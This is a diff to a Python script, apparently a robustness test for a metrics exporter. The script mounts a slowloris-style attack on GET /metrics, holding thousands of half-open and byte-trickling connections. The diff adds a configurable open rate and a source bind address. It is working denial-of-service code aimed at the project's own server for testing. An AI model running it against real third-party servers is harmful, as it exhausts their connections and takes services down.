@@ -5,7 +5,8 @@
 Half the connections are half-open (connected, nothing sent); the other half send a
 `GET /metrics` request head one byte per second per connection and never the blank line
 that ends it. A connection the server closes is opened again, so that the attack keeps
-`connections` in play. At the end, every connection still open completes its request
+`connections` in play, opening at most --rate a second (1,000 by default; slowhttptest's
+default is 50). At the end, every connection still open completes its request
 and leaves at once with a reset: the server meets a client that went away (issue 29:
 the old exporter printed a BrokenPipe traceback for each). One process, one thread,
 epoll: 3,000 sockets cost the attacker little. Prints a JSON summary on stdout.
@@ -27,8 +28,9 @@ _RESET = struct.pack("ii", 1, 0)
 
 
 class Attack:
-    def __init__(self, host: str, port: int, connections: int) -> None:
+    def __init__(self, host: str, port: int, connections: int, source: str = "") -> None:
         self.address = (host, port)
+        self.source = source
         self.connections = connections
         self.selector = selectors.DefaultSelector()
         self.sent: dict[socket.socket, int] = {}  # bytes of REQUEST sent; -1: half-open, sends nothing
@@ -40,6 +42,8 @@ class Attack:
     def open_one(self) -> None:
         sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
         sock.setblocking(False)
+        if self.source:
+            sock.bind((self.source, 0))
         code = sock.connect_ex(self.address)
         if code not in (0, errno.EINPROGRESS):
             self.open_failed += 1
@@ -55,15 +59,18 @@ class Attack:
         del self.sent[sock]
         sock.close()
 
-    def run(self, duration: float, open_rate: float = 2000.0) -> None:
+    def run(self, duration: float, open_rate: float) -> None:
         """Keep `connections` open for `duration` seconds, opening at most `open_rate` a second."""
         start = time.monotonic()
         next_byte = start + 1.0
+        allowed = 0.0  # connections it may open now (a token bucket, at most one second's worth)
+        last = start
         while (now := time.monotonic()) < start + duration:
-            budget = int(open_rate * 0.05)
-            while len(self.sent) < self.connections and budget > 0:
+            allowed = min(open_rate, allowed + (now - last) * open_rate)
+            last = now
+            while len(self.sent) < self.connections and allowed >= 1:
                 self.open_one()
-                budget -= 1
+                allowed -= 1
             for key, _ in self.selector.select(timeout=0.05):
                 sock = key.fileobj
                 assert isinstance(sock, socket.socket)
@@ -105,9 +112,12 @@ def main() -> int:
     parser.add_argument("--port", type=int, required=True)
     parser.add_argument("--connections", type=int, default=3000)
     parser.add_argument("--duration", type=float, default=20.0)
+    parser.add_argument("--rate", type=float, default=1000.0,
+                        help="connections opened a second at most (slowhttptest: 50)")  # fmt: skip
+    parser.add_argument("--source", default="", help="the attacker's address (e.g. 127.0.0.2: not the scraper's)")
     args = parser.parse_args()
-    attack = Attack(args.host, args.port, args.connections)
-    attack.run(args.duration)
+    attack = Attack(args.host, args.port, args.connections, args.source)
+    attack.run(args.duration, args.rate)
     released = attack.release()
     summary = {"opened": attack.opened, "closed_by_server": attack.closed_by_server,
                "open_failed": attack.open_failed, "released": released}  # fmt: skip
